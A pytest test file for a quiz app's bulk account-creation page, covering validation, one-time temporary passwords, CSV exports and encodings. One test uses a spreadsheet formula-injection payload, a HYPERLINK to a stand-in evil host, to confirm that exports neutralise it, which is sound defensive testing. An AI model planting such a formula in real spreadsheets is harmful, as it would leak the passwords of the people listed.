"""Adding accounts for a class on the Users page: every line checked first, all made or none, each temporary
password shown once (and in a CSV link inside that one page), never stored."""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import unquote

import pytest
from sqlalchemy import event, func, inspect, select

from quizapp.auth import batch
from quizapp.auth.batch import MAX_ACCOUNTS, parse_lines
from quizapp.extensions import db
from quizapp.models import Role, User
from tests.conftest import csrf_from, login, without_varying_values
from tests.test_temporary_passwords import PASSWORD_SHAPE

CLASS = """name, email, role
Aigerim Nurlanovna, aigerim@school.example
Daniyar Seitkali;DANIYAR@school.example;student
"Bekov, Marat", marat@school.example, Instructor
Әлия Қасымова\taliya@school.example
"""


@pytest.fixture
def admin(app, make_user):
    client = app.test_client()
    assert login(client, make_user(Role.ADMIN).email).status_code == 302
    return client


def send(client, lines: str = "", file: tuple[bytes, str] | None = None):
    page = client.get("/admin/users/new")
    assert page.status_code == 200
    data: dict[str, object] = {"csrf_token": csrf_from(page.get_data(as_text=True)), "lines": lines}
    if file is not None:
        data["file"] = (io.BytesIO(file[0]), file[1])
    return client.post("/admin/users/new", data=data, content_type="multipart/form-data")


def account_count() -> int:
    return db.session.scalar(select(func.count()).select_from(User))


def test_a_class_is_made_with_temporary_passwords_shown_once(app, admin):
    before = account_count()
    made = send(admin, CLASS)
    page = made.get_data(as_text=True)
    assert made.status_code == 200 and made.headers["Cache-Control"] == "no-store"
    assert "4 accounts made" in page and "shown only on this page, only this once" in page
    passwords = PASSWORD_SHAPE.findall(page)
    assert len(set(passwords)) == len(passwords) == 4  # one slip each (the CSV link is checked below)
    assert account_count() == before + 4
    # A narrow slip breaks an address after its @ or before a dot of its domain, not mid-word.
    assert '<dd class="email">aigerim@<wbr>school<wbr>.example</dd>' in page
    db.session.expire_all()
    accounts = {u.email: u for u in db.session.scalars(select(User).where(User.email.like("%@school.example")))}
    assert {e: (u.display_name, u.role) for e, u in accounts.items()} == {
        "aigerim@school.example": ("Aigerim Nurlanovna", "student"),
        "daniyar@school.example": ("Daniyar Seitkali", "student"),
        "marat@school.example": ("Bekov, Marat", "instructor"),
        "aliya@school.example": ("Әлия Қасымова", "student")}
    for user in accounts.values():
        assert user.must_change_password and any(user.check_password(p) for p in passwords)
        stored = repr([getattr(user, c.key) for c in inspect(User).columns])
        assert not any(p in stored for p in passwords)

    # The CSV download lives in the page itself: a data: link, nothing served again later.
    link = re.search(r'href="(data:text/csv;[^"]+)" download="new-accounts.csv"', page).group(1)
    csv_text = unquote(link.split(",", 1)[1])
    assert csv_text.startswith("\ufeffname,email,role,temporary password")
    assert '"Bekov, Marat",marat@school.example,instructor,' in csv_text
    assert all(p in csv_text for p in set(passwords))
    # The same list for Excel in Russian or Kazakh settings, which splits cells at semicolons.
    excel = re.search(r'href="(data:text/csv;[^"]+)" download="new-accounts-excel.csv"', page).group(1)
    excel_text = unquote(excel.split(",", 1)[1])
    assert excel_text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(excel_text.removeprefix("\ufeff")), delimiter=";"))
    assert rows[0] == ["name", "email", "role", "temporary password"]
    assert [row[:3] for row in rows[1:]] == [row[:3] for row in csv.reader(io.StringIO(csv_text[1:]))][1:]
    assert ["Әлия Қасымова", "aliya@school.example", "student"] in [row[:3] for row in rows]
    assert ["Bekov, Marat", "marat@school.example", "instructor"] in [row[:3] for row in rows]
    assert {row[3] for row in rows[1:]} == set(passwords)

    # Sent again (a reload), nothing more is made, and no password comes back.
    again = send(admin, CLASS)
    text = again.get_data(as_text=True)
    assert again.status_code == 422 and "aigerim@school.example already has an account" in text
    assert account_count() == before + 4 and not PASSWORD_SHAPE.search(text)

    # Each can log in with theirs, and must change it first.
    aigerim = accounts["aigerim@school.example"]
    theirs = next(p for p in set(passwords) if aigerim.check_password(p))
    client = app.test_client()
    assert login(client, "aigerim@school.example", theirs).status_code == 302
    assert client.get("/").location == "/auth/password"


@pytest.mark.parametrize(("lines", "heading"), [
    ("Good One, good@school.example\nBad Email, bad@school\n, noname@school.example",
     "Please correct the 2 problems below:"),
    ("Good One, good@school.example\nBad Email, bad@school", "Please correct the problem below:"),
])
def test_the_error_summary_counts_the_lines_to_correct(admin, lines, heading):
    # The summary links to the box once, however many of its lines are wrong; it counts those.
    page = send(admin, lines).get_data(as_text=True)
    assert f'<p id="error-summary-title">{heading}</p>' in page


def test_one_bad_line_makes_nothing_and_every_problem_is_named_by_line_and_field(app, admin, make_user):
    make_user(email="taken@school.example")
    before = account_count()
    lines = ("Good One, good@school.example\n"
             "Bad Email, bad@school\n"
             ", noname@school.example\n"
             "Copy, GOOD@school.example\n"
             "Boss, boss@school.example, admin\n"
             "Chief, chief@school.example, teacher\n"
             "Taken, taken@school.example\n"
             "too, many, fields, here\n"
             "Good Two, two@school.example")
    refused = send(admin, lines)
    page = refused.get_data(as_text=True)
    assert refused.status_code == 422 and account_count() == before
    assert "Nothing was made" in page
    for expected in ("Line 2, email: “bad@school” is not an email address",
                     "Line 3, name: empty",
                     "Line 4, email: good@school.example is on line 1 already.",
                     "Line 5, role: admin accounts are not made here",
                     "Line 6, role: “teacher” is not a role",
                     "Line 8: 4 fields"):
        assert expected in page, expected
    # The address already registered is named too.
    fixed = send(admin, "Good One, good@school.example\nTaken, taken@school.example")
    assert "Line 2, email: taken@school.example already has an account." in fixed.get_data(as_text=True)
    assert account_count() == before
    # What was typed comes back to be corrected, and the problems are tied to the box for screen readers.
    assert "Good Two, two@school.example</textarea>" in page
    assert 'aria-describedby="lines-hint lines-error"' in page and 'aria-invalid="true"' in page
    assert not PASSWORD_SHAPE.search(without_varying_values(page))


def test_a_csv_file_is_read_like_pasted_lines_and_its_lines_come_back_when_wrong(app, admin):
    made = send(admin, file=(CLASS.encode("utf-8-sig"), "class.csv"))
    assert made.status_code == 200 and "4 accounts made" in made.get_data(as_text=True)

    refused = send(admin, file=(b"Nobody, nobody@\n", "more.csv"))
    assert refused.status_code == 422 and "Nobody, nobody@</textarea>" in refused.get_data(as_text=True)
    latin1 = send(admin, file=("Zoë, zoe@school.example".encode("latin-1"), "old.csv"))
    assert latin1.status_code == 422 and "save it as “CSV UTF-8”" in latin1.get_data(as_text=True)
    both = send(admin, "Ann, ann@school.example", file=(b"Bob, bob@school.example", "b.csv"))
    assert both.status_code == 422 and "not both" in both.get_data(as_text=True)
    other = send(admin, file=(b"x", "class.xlsx"))
    assert other.status_code == 422 and "Upload a .csv" in other.get_data(as_text=True)
    empty = send(admin, "  \n ")
    assert empty.status_code == 422 and "at least one line" in empty.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(User).where(User.email.like("%@school.example"))) == 4


def test_every_password_is_hashed_before_the_first_account_is_written(app, admin, monkeypatch):
    # Each hash takes a tenth of a second on purpose: made between the inserts, a hundred of them would hold
    # SQLite's write lock for ten seconds, and every answer and review sent meanwhile would wait or fail.
    inserts, seen = [], []

    def count(_connection, _cursor, statement, *_rest):
        if re.match(r'INSERT INTO "?user"? ', statement):
            inserts.append(statement)

    hash_first = batch.hash_temporary_password
    monkeypatch.setattr(batch, "hash_temporary_password",
                        lambda password: seen.append(len(inserts)) or hash_first(password))
    event.listen(db.engine, "before_cursor_execute", count)
    try:
        assert send(admin, CLASS).status_code == 200
    finally:
        event.remove(db.engine, "before_cursor_execute", count)
    assert seen == [0, 0, 0, 0] and len(inserts) == 4


@pytest.mark.parametrize(("download", "delimiter"), [("new-accounts.csv", ","), ("new-accounts-excel.csv", ";")])
def test_the_csv_list_runs_no_formula_from_a_name_or_an_address(app, admin, download, delimiter):
    # A roster pasted from elsewhere may hold a name that a spreadsheet would run, sending the password in the
    # same row to another site when the downloaded list is opened.
    made = send(admin, '"=HYPERLINK(""https://evil.example/?""&D2,""Open"")", evil@school.example\n'
                       "@SUM(1+1), at@school.example\n"
                       "Bob, +1-2@school.example")
    page = made.get_data(as_text=True)
    assert made.status_code == 200 and "3 accounts made" in page
    link = re.search(rf'href="(data:text/csv;[^"]+)" download="{download}"', page).group(1)
    rows = list(csv.reader(io.StringIO(unquote(link.split(",", 1)[1]).removeprefix("\ufeff")),
                           delimiter=delimiter))[1:]
    assert [row[:2] for row in rows] == [
        ["'=HYPERLINK(\"https://evil.example/?\"&D2,\"Open\")", "evil@school.example"],
        ["'@SUM(1+1)", "at@school.example"], ["Bob", "'+1-2@school.example"]]
    # The slips show the names as they were typed.
    assert "=HYPERLINK(&#34;https://evil.example/?&#34;&amp;D2,&#34;Open&#34;)</p>" in page


def test_a_list_too_long_is_refused_whole():
    lines = "\n".join(f"Student {n}, s{n}@school.example" for n in range(MAX_ACCOUNTS + 1))
    accounts, problems = parse_lines(lines)
    assert accounts == [] and f"at most {MAX_ACCOUNTS} are made at once" in str(problems[0])
    accounts, problems = parse_lines("\n".join(lines.splitlines()[:MAX_ACCOUNTS]))
    assert len(accounts) == MAX_ACCOUNTS and problems == []


def test_only_admins_add_accounts(app, teacher):
    assert teacher.get("/admin/users/new").status_code == 403
    page = teacher.get("/classes/").get_data(as_text=True)
    response = teacher.post("/admin/users/new", data={"csrf_token": csrf_from(page), "lines": CLASS})
    assert response.status_code == 403
    assert db.session.scalar(select(func.count()).select_from(User).where(User.email.like("%@school.example"))) == 0


def test_a_spreadsheet_saved_as_unicode_text_is_read_and_one_in_windows_1251_is_named(app, admin):
    # Excel without "CSV UTF-8" keeps Cyrillic and Kazakh names only as "Unicode Text": UTF-16, tab-separated.
    unicode_text = "Name\tEmail\r\nӘлия Қасымова\taliya@school.example\r\nЁлдос Ұлан\tuldos@school.example\r\n"
    made = send(admin, file=(unicode_text.encode("utf-16"), "class.txt"))
    assert made.status_code == 200 and "2 accounts made" in made.get_data(as_text=True)
    names = set(db.session.scalars(select(User.display_name).where(User.email.like("%@school.example"))))
    assert names == {"Әлия Қасымова", "Ёлдос Ұлан"}

    # Excel's plain "CSV" in Russian settings: Windows-1251, in which the Kazakh letters were already lost.
    cp1251 = send(admin, file=("Иванов Иван;ivan@school.example\r\nПетрова Анна;anna@school.example\r\n"
                               .encode("cp1251"), "class.csv"))
    page = cp1251.get_data(as_text=True)
    assert cp1251.status_code == 422 and "it looks like Windows-1251 (Cyrillic)" in page
    assert "save it as “CSV UTF-8”" in page


def test_a_spreadsheets_export_is_read_with_its_own_headings_and_empty_columns():
    # Excel in Russian settings saves with semicolons, every column of the sheet ever used, and Russian headings.
    export = ("ФИО;Электронная почта;Роль;;\r\n"
              "Иванов, Иван;ivan@school.example;;;\r\n"
              "Серікбай Ұлан;ulan@school.example;instructor;;\r\n")
    accounts, problems = parse_lines(export)
    assert problems == []
    assert [(a.number, a.name, a.email, a.role) for a in accounts] == [
        (2, "Иванов, Иван", "ivan@school.example", Role.STUDENT),
        (3, "Серікбай Ұлан", "ulan@school.example", Role.INSTRUCTOR)]
    accounts, problems = parse_lines("Аты-жөні\tЭлектрондық пошта\nӘлия\taliya@school.example\n")
    assert problems == [] and [a.name for a in accounts] == ["Әлия"]


def test_an_email_out_of_its_place_is_named_as_such():
    # A name with an unquoted comma, a name in two columns, a numbering column, or the columns swapped: each was
    # reported field by field ("“Ivan” is not an email address", "“ivan@…” is not a role").
    _, problems = parse_lines("Ivanov, Ivan, ivan@school.example\n"
                              "Seitkali\tDaniyar\tdaniyar@school.example\tinstructor\n"
                              "3;Bekov Marat;marat@school.example\n"
                              "aigerim@school.example, Aigerim\n")
    assert [str(problem) for problem in problems] == [
        *(f"Line {n}: the email is field 3, not 2: give the name as one field (a name with a comma in it goes in "
          "double quotes), then the email." for n in (1, 2, 3)),
        "Line 4: the email comes first: give the name, then the email."]


def test_an_address_whose_account_was_deactivated_says_to_reactivate_it(app, admin, make_user, runner):
    back = make_user(email="back@school.example")
    make_user(email="here@school.example")
    assert runner.invoke(args=["users", "deactivate", back.email]).exit_code == 0
    refused = send(admin, "Back Again, BACK@school.example\nStill Here, here@school.example\nNew, new@school.example")
    page = refused.get_data(as_text=True)
    assert refused.status_code == 422
    assert ("Line 1, email: back@school.example already has an account, deactivated: take the line off, reactivate "
            "the account on the Users page and give it a temporary password there.") in page
    assert "Line 2, email: here@school.example already has an account.<br>" in page


def test_addresses_already_taken_are_named_with_the_other_problems_at_once(app, admin, make_user):
    make_user(email="taken@school.example")
    refused = send(admin, "Taken, taken@school.example\nBad Email, bad@school\nGood, good@school.example")
    page = refused.get_data(as_text=True)
    assert refused.status_code == 422
    first, second = (page.index("Line 1, email: taken@school.example already has an account."),
                     page.index("Line 2, email: “bad@school” is not an email address"))
    assert first < second


def test_an_address_on_a_slip_breaks_only_between_its_parts_and_stays_escaped():
    from quizapp.web import email_breaks

    assert str(email_breaks("a.b@school-nomer-45.edu.kz")) == "a.b@<wbr>school-nomer-45<wbr>.edu<wbr>.kz"
    assert str(email_breaks('"<x>"@evil.example')) == "&#34;&lt;x&gt;&#34;@<wbr>evil<wbr>.example"
    assert str(email_breaks("no-at-sign")) == "no-at-sign"


def test_a_line_of_one_field_says_which_part_is_missing():
    # Said as "1 fields; give name, email and, if you like, role": a count in the wrong number, and no word of what
    # was left out.
    _, problems = parse_lines("Aigerim Nurlanovna\naigerim@school.example\nDaniyar Seitkali, daniyar@school.example\n")
    assert [str(problem) for problem in problems] == [
        "Line 1: no email: give the name, then the email.",
        "Line 2: no name: give the name, then the email."]
